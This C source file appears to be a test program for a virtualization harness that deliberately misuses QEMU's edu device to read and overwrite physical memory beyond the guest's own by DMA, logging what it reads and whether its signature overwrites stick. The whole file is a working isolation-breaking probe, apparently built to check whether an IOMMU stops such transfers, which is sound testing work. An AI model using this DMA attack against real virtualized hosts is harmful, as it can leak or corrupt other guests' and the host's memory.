/*
 * A driver with bad intentions: it has `edu`, the teaching device of QEMU, read and write memory that is not its own, by DMA. What a
 * driver may touch with its own instructions the page tables of the VMM limit; what its device may touch nobody does but an IOMMU.
 *
 * Each transfer is an ordinary one. Only the addresses are bad: they lie behind the memory that the machine says it has.
 */
#include "trapline.h"

#ifndef TARGET
#define TARGET 0x2000000 /* the first byte behind 32 MiB */
#endif
#ifndef BYTES
#define BYTES 64 /* of each transfer */
#endif
#ifndef STRIDE
#define STRIDE 4096
#endif
#ifndef ROUNDS
#define ROUNDS 4
#endif

enum { EDU_VENDOR = 0x1234, EDU_DEVICE = 0x11e8 };
enum { DMA_SOURCE = 0x80, DMA_DESTINATION = 0x88, DMA_COUNT = 0x90, DMA_COMMAND = 0x98 };
enum { DMA_RUN = 1, DMA_TO_MEMORY = 2 };
#define DEVICE_BUFFER 0x40000ul
enum { READ = 1, OVERWRITE = 2, LOOK = 3, END = 4 }; /* marks */

/* Read by whoever checks the trace. */
struct {
    uint32_t writes;      /* transfers to memory that is not the guest's */
    uint32_t read;        /* bytes other than zeros that came from there, before anything was written */
    uint32_t overwritten; /* rounds after which what was written was there */
} attack_log;

static const char signature[] = "Here was the guest of vm0, whose memory ends long before. ";
static uint64_t edu;
static uint8_t *seen;

/* Polls: an interrupt would tell no more. */
static void transfer(uint64_t from, uint64_t to, uint32_t direction)
{
    tl_write32(edu + DMA_SOURCE, (uint32_t)from);
    tl_write32(edu + DMA_DESTINATION, (uint32_t)to);
    tl_write32(edu + DMA_COUNT, BYTES);
    tl_write32(edu + DMA_COMMAND, DMA_RUN | direction);
    while (tl_read32(edu + DMA_COMMAND) & DMA_RUN)
        tl_pause();
}

/* There to the device, and from the device to a place where the guest may look. An old answer is wiped out first. */
static void look_at(uint64_t address)
{
    memset(seen, 0, BYTES);
    transfer(tl_physical(seen), DEVICE_BUFFER, 0);
    transfer(address, DEVICE_BUFFER, 0);
    transfer(DEVICE_BUFFER, tl_physical(seen), DMA_TO_MEMORY);
}

int main(void)
{
    struct tl_pci pci;
    tl_check(tl_pci_find(EDU_VENDOR, EDU_DEVICE, 0, &pci), "no edu (1234:11e8) on the PCI bus");
    tl_pci_enable(&pci);
    edu = tl_pci_bar(&pci, 0);
    seen = tl_alloc(BYTES, 4096);
    uint8_t *bytes = tl_alloc(BYTES, 4096);
    for (unsigned i = 0; i < BYTES; i++)
        bytes[i] = (uint8_t)signature[i % (sizeof(signature) - 1)];

    tl_mark(READ, 0);
    look_at(TARGET);
    for (unsigned i = 0; i < BYTES; i++)
        attack_log.read += seen[i] != 0;
    tl_printf("behind my memory, at %x, I read: \"", (unsigned)TARGET);
    for (unsigned i = 0; i < BYTES; i++)
        tl_printf("%c", seen[i] >= ' ' && seen[i] < 0x7f ? seen[i] : '.');
    tl_printf("\"\n");

    tl_mark(OVERWRITE, ROUNDS);
    transfer(tl_physical(bytes), DEVICE_BUFFER, 0);
    for (unsigned round = 0; round < ROUNDS; round++) {
        transfer(DEVICE_BUFFER, TARGET + round * STRIDE, DMA_TO_MEMORY);
        attack_log.writes++;
    }

    tl_mark(LOOK, 0);
    for (unsigned round = 0; round < ROUNDS; round++) {
        look_at(TARGET + round * STRIDE);
        attack_log.overwritten += !memcmp(seen, bytes, BYTES);
    }
    tl_mark(END, attack_log.overwritten);

    tl_printf("%u of %u transfers have overwritten what is not mine\n", attack_log.overwritten, attack_log.writes);
    return 0;
}
